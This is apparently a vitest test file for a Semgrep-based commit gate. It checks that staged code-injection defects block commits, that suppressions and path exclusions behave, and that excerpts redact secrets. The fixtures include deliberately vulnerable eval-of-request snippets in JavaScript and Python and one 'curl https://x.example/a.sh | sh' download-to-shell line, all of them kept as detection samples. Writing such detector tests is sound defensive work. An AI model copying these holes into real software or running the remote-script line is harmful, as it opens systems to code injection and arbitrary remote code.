import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, onTestFinished, test } from "vitest";
import type { Finding, Judgement } from "../../../gates/contract.ts";
import { semgrepGate } from "../../../gates/semgrep/gate.ts";
import { kinds } from "../../../gates/semgrep/kinds.ts";
import { contextFor, stagedContext } from "../../support/gate-context.ts";
import { Sandbox } from "../../support/sandbox.ts";

const evalOfRequest = 'app.get("/", (req, res) => {\n  eval(req.query.code);\n});\n';
const harmless = 'app.get("/", (req, res) => {\n  res.json({ ok: true });\n});\n';

function places({ findings }: Judgement): string[] {
  return findings.map((finding) => `${pathOf(finding)}:${lineOf(finding)} ${finding.rule}`);
}

function pathOf({ location }: Finding): string {
  return location.kind === "file" ? location.path : location.kind;
}

function lineOf({ location }: Finding): number {
  return location.kind === "file" ? location.region.startLine : 0;
}

describe("what is judged", () => {
  test("a staged defect that is fixed only in the work tree blocks", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "src/app.js": evalOfRequest });
    sandbox.git("add", "--all");
    sandbox.write({ "src/app.js": harmless });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome).toEqual({ status: "fail", reason: "findings" });
    expect(places(judgement)).toEqual(["src/app.js:2 semgrep/js-code-from-request"]);
    expect(judgement.findings[0]).toMatchObject({
      severity: "error",
      cwe: ["CWE-95", "CWE-94"],
      excerpt: "eval(req.query.code);",
      location: { region: { startLine: 2, endLine: 2, startColumn: 8, endColumn: 21 } },
    });
    expect(judgement.summary).toContain("src/app.js:2");
  });

  test("a defect that is only in the work tree does not block", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "src/app.js": harmless });
    sandbox.git("add", "--all");
    sandbox.write({ "src/app.js": evalOfRequest });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome).toEqual({ status: "pass", reason: "clean" });
    expect(judgement.tools.map(({ name }) => name)).toEqual(["semgrep", "rules/javascript"]);
  });

  test("a change without code that has rules is skipped by name", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "README.md": "# eval(req.query.code)\n" });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome).toEqual({ status: "skip", reason: "nothing-to-judge" });
  });

  test("policy can switch the gate off, and exclude paths", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "fixtures/app.js": evalOfRequest });
    sandbox.git("add", "--all");
    const off = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { enabled: false } }));
    expect(off.outcome).toEqual({ status: "off", reason: "disabled" });
    const excluded = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { exclude: ["fixtures/**"] } }));
    expect(excluded.outcome).toEqual({ status: "skip", reason: "nothing-to-judge" });
  });

  test("tests, vendored, minified, hidden and oddly cased files are read like all others", async () => {
    const sandbox = Sandbox.repository();
    const paths = [
      ".github/scripts/release.js",
      "X.JS",
      "app.min.js",
      "node_modules/dependency/index.js",
      "src/module.mts",
      "test/app.test.js",
      "tests/app.js",
      "vendor/library.js",
    ];
    sandbox.write(Object.fromEntries(paths.map((path) => [path, evalOfRequest])));
    sandbox.write({ ".semgrepignore": "*\n", "src/.semgrepignore": "*\n", ".gitignore": "vendor/\n" });
    sandbox.git("add", "--all", "--force");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.findings.map(pathOf).toSorted()).toEqual(paths);
  });

  test("odd names survive", async () => {
    const sandbox = Sandbox.repository();
    const names = [
      "-lead.js",
      "a b.js",
      "line\nbreak.js",
      "päth/ünï.js",
      'quote".js',
      "semi;colon.js",
      "Case.js",
      "case.js",
    ];
    sandbox.write(Object.fromEntries(names.map((name) => [name, evalOfRequest])));
    sandbox.git("add", "--all");
    const oid = sandbox.git("hash-object", "-w", "-t", "blob", "case.js");
    // A name that is not UTF-8: the file system of the machine need not be able to hold it.
    execFileSync("git", ["update-index", "-z", "--index-info"], {
      cwd: sandbox.directory,
      env: sandbox.env,
      input: Buffer.concat([Buffer.from(`100644 ${oid}\tb`), Buffer.of(0xff), Buffer.from("d.js\0")]),
    });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.findings.map(pathOf).toSorted()).toEqual([...names, "b\udcffd.js"].toSorted());
  });

  test("scripts without an extension, and text that is not plain UTF-8, are read", async () => {
    const sandbox = Sandbox.repository();
    const python = "def view(request):\n    eval(request.args['code'])\n";
    sandbox.write({
      "bin/tool": `#!/usr/bin/env node\n${evalOfRequest}`,
      "mark.py": `\ufeffdef view(request): eval(request.args["code"])\n`,
      "wide.py": Buffer.from(`\ufeff${python}`, "utf16le"),
      "latin.py": Buffer.from(`# caf\xe9\n${python}`, "latin1"),
      "false.sh": Buffer.from("\xff\xfe\ncurl https://x.example/a.sh | sh\n", "latin1"),
    });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(places(judgement)).toEqual([
      "bin/tool:3 semgrep/js-code-from-request",
      "false.sh:2 semgrep/bash-download-to-shell",
      "latin.py:3 semgrep/python-code-from-request",
      "mark.py:1 semgrep/python-code-from-request",
      "wide.py:2 semgrep/python-code-from-request",
    ]);
  });

  test("columns count UTF-16 code units", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "a.js": "/* é😀 */ eval(req.query.code);\n" });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.findings[0]?.location).toMatchObject({ region: { startColumn: 16, endColumn: 29 } });
  });
});

describe("only what is new blocks", () => {
  test("a finding that was there before does not block, a second one does", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": evalOfRequest });
    sandbox.commitAll();
    sandbox.write({ "app.js": `// moved down\n\n${evalOfRequest}` });
    sandbox.git("add", "--all");
    const old = await semgrepGate.judge(await stagedContext(sandbox));
    expect(old.outcome).toEqual({ status: "pass", reason: "only-existing" });
    expect(old.findings).toEqual([]);
    expect(old.notes).toEqual([
      { code: "existing-findings", message: "1 finding was there before and does not block.", path: null },
    ]);

    sandbox.write({ "app.js": `${evalOfRequest}${evalOfRequest}` });
    sandbox.git("add", "--all");
    const both = await semgrepGate.judge(await stagedContext(sandbox));
    expect(both.outcome).toEqual({ status: "fail", reason: "findings" });
    expect(places(both)).toEqual(["app.js:5 semgrep/js-code-from-request"]);
  });

  test("a renamed file takes its old findings along", async () => {
    const sandbox = Sandbox.repository();
    const rest = Array.from({ length: 20 }, (_, line) => `const value${line} = ${line};\n`).join("");
    sandbox.write({ "old.js": evalOfRequest + rest });
    sandbox.commitAll();
    sandbox.git("mv", "old.js", "new.js");
    sandbox.write({ "new.js": `${evalOfRequest}${rest}export {};\n` });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome).toEqual({ status: "pass", reason: "only-existing" });
  });

  test("what the other side of a merge has is old", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": harmless, "other.js": harmless });
    sandbox.commitAll();
    sandbox.git("checkout", "--quiet", "-b", "side");
    sandbox.write({ "app.js": harmless + evalOfRequest });
    sandbox.commitAll();
    sandbox.git("checkout", "--quiet", "main");
    sandbox.write({ "app.js": `// top\n${harmless}` });
    sandbox.commitAll();
    sandbox.git("merge", "--quiet", "--no-verify", "-m", "merge", "side");
    const judgement = await semgrepGate.judge(await contextFor(sandbox, { kind: "commit", revision: "HEAD" }));
    expect(judgement.outcome).toEqual({ status: "pass", reason: "only-existing" });
  });

  test("the fingerprint stays when lines above move", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": evalOfRequest });
    sandbox.git("add", "--all");
    const first = await semgrepGate.judge(await stagedContext(sandbox));
    sandbox.write({ "app.js": `// one\n// two\n${evalOfRequest}` });
    sandbox.git("add", "--all");
    const second = await semgrepGate.judge(await stagedContext(sandbox));
    expect(second.findings[0]?.fingerprint).toMatch(/^[0-9a-f]{64}$/);
    expect(second.findings[0]?.fingerprint).toBe(first.findings[0]?.fingerprint);
  });
});

describe("what does not block", () => {
  test("nosemgrep is ignored", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({
      "app.js": "eval(req.query.code); // nosemgrep\n// nosem\neval(req.query.more); // nosemgrep: x\n",
    });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.findings.map(lineOf)).toEqual([1, 3]);
  });

  test("a dl suppression with a reason is shown and does not block; one without is none", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({
      "allowed.js": "// dl-allow semgrep/js-code-from-request: runs in a sandbox\neval(req.query.code);\n",
      "bare.js": "// dl-allow semgrep/js-code-from-request:\neval(req.query.code);\n",
    });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome.status).toBe("fail");
    expect(judgement.findings.map((finding) => [pathOf(finding), finding.suppression])).toEqual([
      ["allowed.js", { by: "comment", reason: "runs in a sandbox", addedByChange: true }],
      ["bare.js", null],
    ]);
    const allow = [{ rule: "semgrep/js-code-from-request", path: "bare.js", reason: "a demonstration" }];
    const allowed = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { allow } }));
    expect(allowed.outcome).toEqual({ status: "pass", reason: "clean" });
    expect(allowed.findings).toHaveLength(2);
  });

  test("the reason of a suppression shows no secret that stands on its line", async () => {
    const sandbox = Sandbox.repository();
    const line = `eval(req.query.code); // dl-allow semgrep/js-code-from-request: fine, password = "correct horse"`;
    sandbox.write({ "a.js": `${line}\n` });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.findings.map(({ suppression }) => suppression?.reason)).toEqual(['fine, password = "[redacted]"']);
  });

  test("severity below blockFrom is reported and does not block", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.py": "import hashlib\nhashlib.md5(content)\n" });
    sandbox.git("add", "--all");
    const standard = await semgrepGate.judge(await stagedContext(sandbox));
    expect(standard.outcome).toEqual({ status: "pass", reason: "clean" });
    expect(standard.findings.map(({ severity }) => severity)).toEqual(["note"]);
    const strict = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { blockFrom: "note" } }));
    expect(strict.outcome.status).toBe("fail");
  });

  test("a disabled rule is silent, and the canary that needs it still rides", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": evalOfRequest });
    sandbox.git("add", "--all");
    const disabledRules = ["semgrep/js-code-from-request", "semgrep/js-eval-of-value"];
    const judgement = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { disabledRules } }));
    expect(judgement.outcome).toEqual({ status: "pass", reason: "clean" });
  });
});

describe("what is shown", () => {
  test("an excerpt holds no secret", async () => {
    const sandbox = Sandbox.repository();
    const key = ["sk", "live", "9aF3kQ7zB2xW8mN4"].join("_");
    sandbox.write({ "app.js": `eval(req.query.code); login("${key}", { password: "hunter2" });\n` });
    sandbox.git("add", "--all");
    const kept = new Map<string, unknown>();
    const judgement = await semgrepGate.judge(await stagedContext(sandbox, {}, kept));
    expect(judgement.findings).toHaveLength(1);
    const all = JSON.stringify([judgement, ...kept.values()]);
    expect(all).not.toContain(key);
    expect(all).not.toContain("hunter2");
    expect(judgement.findings[0]?.excerpt).toContain("eval(req.query.code");
  });

  test("files that Semgrep reads in part, or not at all, are named", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({
      "broken.js": "eval(req.query.a);\nfunction f( { ] ) } )(\n class { \n",
      "half.py": 'import os\ndef view(request):\n    eval(request.args["a"])\n\n@@@@ %% (((\n',
      "large.js": `${evalOfRequest}// ${"x".repeat(2000)}\n`,
    });
    sandbox.git("add", "--all");
    const judgement = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { maxFileBytes: 1000 } }));
    expect(judgement.notes.map(({ code, path }) => [code, path])).toEqual([
      ["file-not-read", "broken.js"],
      ["file-read-in-part", "half.py"],
      ["file-not-read", "large.js"],
    ]);
    expect(places(judgement)).toEqual(["half.py:3 semgrep/python-code-from-request"]);
    expect(judgement.notes[2]?.message).toContain("semgrep.maxFileBytes is 1000");
  });
});

describe("kept results", () => {
  test("what was judged once starts no process again", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "one.js": evalOfRequest, "two.py": "import os\n" });
    sandbox.git("add", "--all");
    const kept = new Map<string, unknown>();
    const first = await semgrepGate.judge(await stagedContext(sandbox, {}, kept));
    const started: string[] = [];
    const progress = (line: string) => started.push(line);
    const again = await semgrepGate.judge({ ...(await stagedContext(sandbox, {}, kept)), progress });
    expect(started).toEqual([]);
    expect(again).toEqual(first);

    sandbox.write({ "two.py": "import sys\n" });
    sandbox.git("add", "--all");
    await semgrepGate.judge({ ...(await stagedContext(sandbox, {}, kept)), progress });
    expect(started).toEqual(["Semgrep reads 1 of 2 files"]);
  });

  test("a kept value that is damaged counts as absent", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "one.js": evalOfRequest });
    sandbox.git("add", "--all");
    const kept = new Map<string, unknown>();
    await semgrepGate.judge(await stagedContext(sandbox, {}, kept));
    for (const key of kept.keys()) kept.set(key, { findings: [{}], shortfalls: [] });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox, {}, kept));
    expect(judgement.outcome.status).toBe("fail");
  });
});

describe("the repository's own rules", () => {
  const ownRule = `rules:
  - id: no-print
    languages: [python]
    severity: ERROR
    message: Printing is not wanted here
    pattern: print(...)
    paths:
      include: ["/src/**"]
  - id: no-todo
    languages: [generic]
    severity: WARNING
    message: Finish it
    pattern-regex: TODO
`;

  test("are taken from the tree that is judged, never from the work tree", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({
      ".semgrep/own.yaml": ownRule,
      "src/a.py": "print(1)\n",
      "lib/b.py": "print(1)\n",
      "notes.txt": "one\nTODO two\n",
    });
    sandbox.git("add", "--all");
    sandbox.write({ ".semgrep/own.yaml": "rules: []\n" });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { configs: [".semgrep"] } }));
    expect(places(judgement)).toEqual(
      expect.arrayContaining(["src/a.py:1 semgrep/no-print", "notes.txt:2 semgrep/no-todo"]),
    );
    expect(places(judgement)).not.toContain("lib/b.py:1 semgrep/no-print");
    expect(judgement.notes.map(({ code, path }) => [code, path])).toContainEqual(["information", ".semgrep/own.yaml"]);
  });

  test("that are missing or do not parse are an error that says which", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "a.py": "print(1)\n" });
    sandbox.git("add", "--all");
    const missing = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { configs: [".semgrep"] } }));
    expect(missing.outcome).toEqual({ status: "error", reason: "tool-failed" });
    expect(missing.summary).toContain("semgrep.configs names .semgrep");

    sandbox.write({ ".semgrep/own.yaml": ownRule.replace("print(...)", "print((((") });
    sandbox.git("add", "--all");
    const broken = await semgrepGate.judge(await stagedContext(sandbox, { semgrep: { configs: [".semgrep"] } }));
    expect(broken.outcome).toEqual({ status: "error", reason: "tool-failed" });
    expect(broken.summary).toContain("no-print");
  });
});

describe("error is not pass", () => {
  test("without Semgrep the gate is an error that says what to run", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": harmless });
    sandbox.git("add", "--all");
    const before = process.env["DL_TOOLS_DIR"];
    process.env["DL_TOOLS_DIR"] = join(sandbox.home, "no-tools");
    onTestFinished(() => {
      if (before === undefined) delete process.env["DL_TOOLS_DIR"];
      else process.env["DL_TOOLS_DIR"] = before;
    });
    const judgement = await semgrepGate.judge(await stagedContext(sandbox));
    expect(judgement.outcome).toEqual({ status: "error", reason: "tool-missing" });
    expect(judgement.summary).toContain("dl tools install");
  });

  test("a stopped gate says so and leaves nothing behind", async () => {
    const sandbox = Sandbox.repository();
    sandbox.write({ "app.js": harmless });
    sandbox.git("add", "--all");
    const temporary = mkdtempSync(join(tmpdir(), "dl-test-tmp-"));
    const before = process.env["TMPDIR"];
    process.env["TMPDIR"] = temporary;
    onTestFinished(() => {
      if (before === undefined) delete process.env["TMPDIR"];
      else process.env["TMPDIR"] = before;
      rmSync(temporary, { recursive: true, force: true });
    });
    const stop = new AbortController();
    const context = { ...(await stagedContext(sandbox)), signal: stop.signal, progress: () => stop.abort() };
    const judgement = await semgrepGate.judge(context);
    expect(judgement.outcome).toEqual({ status: "error", reason: "cancelled" });
    expect(readdirSync(temporary)).toEqual([]);
  });
});

test("the canary of every kind is found", async () => {
  const scratch = mkdtempSync(join(tmpdir(), "dl-test-canary-"));
  onTestFinished(() => rmSync(scratch, { recursive: true, force: true }));
  const sandbox = Sandbox.repository();
  const { policy } = await stagedContext(sandbox);
  const result = await semgrepGate.canary({ policy, signal: new AbortController().signal, scratch });
  expect(result).toEqual({
    alive: true,
    detail: expect.stringContaining(`${kinds.length} of ${kinds.length} planted defects found`),
  });
});
